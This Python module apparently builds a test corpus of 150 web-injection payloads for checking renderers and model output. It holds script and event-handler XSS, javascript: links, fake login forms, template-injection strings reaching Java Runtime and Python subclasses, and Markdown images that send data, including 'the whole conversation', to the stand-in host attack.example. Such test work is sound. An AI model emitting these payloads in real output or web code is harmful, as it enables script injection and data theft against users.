"""Texts that run, load or show something wherever a text is taken for markup: 150 of them, by what they try.

Each says `canary(number)` when it runs and asks the host `OFF_SITE` for something when it loads. They follow the
families of garak's `web_injection` probes and of OWASP's lists (filter evasion, Markdown, template injection).
"""

from __future__ import annotations

OFF_SITE = "http://attack.example"

_SCRIPTS = """
<script>canary(N)</script>
<script src="SITE/N.js"></script>
<SCRIPT SRC=SITE/N.js></SCRIPT>
<script>/*<!--*/canary(N)//--></script>
<script type="module">canary(N)</script>
<script type="text/javascript">canary(N)</script >
</script><script>canary(N)</script>
</textarea><script>canary(N)</script>
</title><script>canary(N)</script>
</mark></p></article><script>canary(N)</script>
<<script>canary(N)//<</script>
<scr<script>ipt>canary(N)</scr</script>ipt>
<script
>canary(N)</script
>
"><script>canary(N)</script>
'><script>canary(N)</script>
--><script>canary(N)</script>
]]><script>canary(N)</script>
<noscript><p title="</noscript><script>canary(N)</script>">
<template><script>canary(N)</script></template>
<script type="application/json" id="texts">{"question":"canary"}</script>
<link rel="modulepreload" href="SITE/N.js">
<link rel="import" href="SITE/N.html">
"""
_HANDLERS = """
<img src=x onerror=canary(N)>
<img src="x" onerror="canary(N)">
"><img src=x onerror=canary(N)>
'><img src=x onerror=canary(N)>
<img/src=x/onerror=canary(N)>
<IMG SRC=x ONERROR="canary(N)">
<img src=x onerror=&#99;anary(N)>
<img src=x oneonerrorrror=canary(N)>
<body onload=canary(N)>
<body onpageshow=canary(N)>
<input autofocus onfocus=canary(N)>
<select autofocus onfocus=canary(N)><option>x</select>
<textarea autofocus onfocus=canary(N)>x</textarea>
<details open ontoggle=canary(N)><summary>x</summary></details>
<video src=x onerror=canary(N)></video>
<video><source onerror=canary(N)></video>
<audio src=x onerror=canary(N)></audio>
<marquee onstart=canary(N)>x</marquee>
<div onmouseover=canary(N) style="position:fixed;inset:0">x</div>
<div onpointerenter="canary(N)">x</div>
<a onmouseenter=canary(N) href=#>x</a>
<p onanimationstart=canary(N) style="animation:arrive 1s">x</p>
<p ontransitionend=canary(N)>x</p>
" onmouseover="canary(N)
' onmouseover='canary(N)
" autofocus onfocus="canary(N)" x="
` onmouseover=`canary(N)
<iframe onload=canary(N)></iframe>
<object data=x onerror=canary(N)></object>
<style onload=canary(N)>*{}</style>
"""
_LINKS = """
<a href="javascript:canary(N)">x</a>
<a href="JaVaScRiPt:canary(N)">x</a>
<a href=" javascript:canary(N)">x</a>
<a href="java&#10;script:canary(N)">x</a>
<a href="data:text/html,<script>parent.canary(N)</script>">x</a>
<a href="vbscript:canary(N)">x</a>
<a href="SITE/N" ping="SITE/ping/N">x</a>
<a href="SITE/N" target=_blank rel=opener>press here</a>
<area href="javascript:canary(N)" shape=default>
javascript:canary(N)
data:text/html;base64,PHNjcmlwdD5jYW5hcnkoTik8L3NjcmlwdD4=
SITE/N
//attack.example/N
\\\\attack.example\\N
"""
_LOADS = """
<img src="SITE/N.png">
<img src=//attack.example/N.png>
<img srcset="SITE/N.png 1x">
<img src=x srcset="SITE/N.png 1x, SITE/N.png 2x">
<picture><source srcset="SITE/N.png"><img src=x></picture>
<img loading=eager src="SITE/N.png?q=secret">
<link rel=stylesheet href="SITE/N.css">
<link rel=preload as=image href="SITE/N.png">
<link rel=prefetch href="SITE/N">
<link rel=dns-prefetch href="SITE/N"><link rel=preconnect href="SITE">
<link rel=icon href="SITE/N.ico">
<style>@import url("SITE/N.css");</style>
<style>body{background:url(SITE/N.png)}</style>
<style>@font-face{font-family:x;src:url(SITE/N.woff)}*{font-family:x}</style>
<div style="background:url(SITE/N.png)">x</div>
<div style="background-image:image-set('SITE/N.png' 1x)">x</div>
<p style="list-style:url(SITE/N.png);display:list-item">x</p>
" style="background:url(SITE/N.png)
<table background="SITE/N.png"><tr><td>x</table>
<body background="SITE/N.png">
<video poster="SITE/N.png" autoplay src="SITE/N.mp4"></video>
<audio autoplay src="SITE/N.mp3"></audio>
<video><track default src="SITE/N.vtt"></video>
<iframe src="SITE/N"></iframe>
<iframe srcdoc="<script>parent.canary(N)</script>"></iframe>
<iframe src="javascript:parent.canary(N)"></iframe>
<iframe src="data:text/html,<script>parent.canary(N)</script>"></iframe>
<frameset><frame src="SITE/N"></frameset>
<object data="SITE/N"></object>
<object data="data:text/html,<script>parent.canary(N)</script>"></object>
<embed src="SITE/N">
<input type=image src="SITE/N.png">
<base href="SITE/">
<base target="_blank" href="SITE/N/">
<meta http-equiv=refresh content="0;url=SITE/N">
<meta http-equiv="refresh" content="0;url=javascript:canary(N)">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">
<meta http-equiv="set-cookie" content="footnote-visitor=stolen">
"""
_DRAWINGS = """
<svg onload=canary(N)></svg>
<svg/onload=canary(N)>
<svg><script>canary(N)</script></svg>
<svg><script href="SITE/N.js"></script></svg>
<svg><image href="SITE/N.png"/></svg>
<svg><image xlink:href="SITE/N.png"/></svg>
<svg><use href="SITE/N.svg#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='canary(N)'/>#x"/></svg>
<svg><a href="javascript:canary(N)"><text y=20>x</text></a></svg>
<svg><animate onbegin=canary(N) attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:canary(N)">
<svg><foreignObject><iframe src="SITE/N"></iframe></foreignObject></svg>
<svg><style>@import "SITE/N.css";</style></svg>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(N)>
<math href="javascript:canary(N)">x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=canary(N)></annotation-xml></math>
"""
_FORMS = """
<form action="SITE/N"><input name=q value=secret><button>Send</button></form>
<form action="SITE/N" method=post id=f></form><button form=f>Log in</button>
<button formaction="SITE/N">Log in again</button>
<input type=password placeholder="Your password">
<isindex action="javascript:canary(N)" type=image>
<dialog open>Your session has ended <form method=dialog><input></form></dialog>
<form class="feedback" data-do="down"><button data-ask>canary(N)</button></form>
<button data-do="again" data-ask>Ask SITE/N</button>
<a data-open href="SITE/N">source</a>
"""
_MARKDOWN = """
![x](SITE/N.png)
![x](SITE/N.png?q=the+whole+conversation)
![x][N]

[N]: SITE/N.png
[x](javascript:canary(N))
[x](SITE/N "title")
<SITE/N>
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeSgpIi8+)
[![x](SITE/N.png)](SITE/N)
[x](data:text/html,<script>canary(N)</script>)
- <img src=x onerror=canary(N)>
```html
<script>canary(N)</script>
```
```mermaid
graph TD; A["<img src=x onerror=canary(N)>"]-->B; click A "javascript:canary(N)"
```
~~~mermaid
%%{init: {"securityLevel": "loose"}}%%
graph TD; A-->B; click A call canary(N)
~~~
$\\href{javascript:canary(N)}{x}$
$$\\htmlData{x=y}{\\includegraphics{SITE/N.png}}$$
\\(\\unicode{<img src=x onerror=canary(N)>}\\)
[^1]: <script>canary(N)</script>
| <img src=SITE/N.png> |
|---|
"""
_TEMPLATES = """
{{7*7}} {{constructor.constructor('canary(N)')()}}
${canary(N)} ${{canary(N)}} #{canary(N)}
{% include "SITE/N" %} {{ config.items() }}
<%= canary(N) %> <% canary(N) %>
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{$on.constructor('canary(N)')()}}
[[${T(java.lang.Runtime).getRuntime()}]] *{canary(N)}
&lt;script&gt;canary(N)&lt;/script&gt;
&#60;img src=x onerror=canary(N)&#62;
\\u003cscript\\u003ecanary(N)\\u003c/script\\u003e
%3Cscript%3Ecanary(N)%3C/script%3E
＜script＞canary(N)＜/script＞
"""


def _separate(family: str) -> list[str]:
    """Return the payloads of a family: one a line, but for those whose later lines belong to them."""
    found: list[str] = []
    fence = ""
    for line in family.strip("\n").split("\n"):
        continues = bool(fence) or line in (">canary(N)</script", ">", "", "[N]: SITE/N.png", "|---|")
        if line[:3] in ("```", "~~~"):
            fence = "" if fence else line[:3]
        if continues and found:
            found[-1] += f"\n{line}"
        else:
            found.append(line)
    return found


_FAMILIES = (_SCRIPTS, _HANDLERS, _LINKS, _LOADS, _DRAWINGS, _FORMS, _MARKDOWN, _TEMPLATES)
PAYLOADS = [
    payload.replace("SITE", OFF_SITE).replace("(N)", f"({number})").replace("/N", f"/{number}")
    for number, payload in enumerate(one for family in _FAMILIES for one in _separate(family))
]
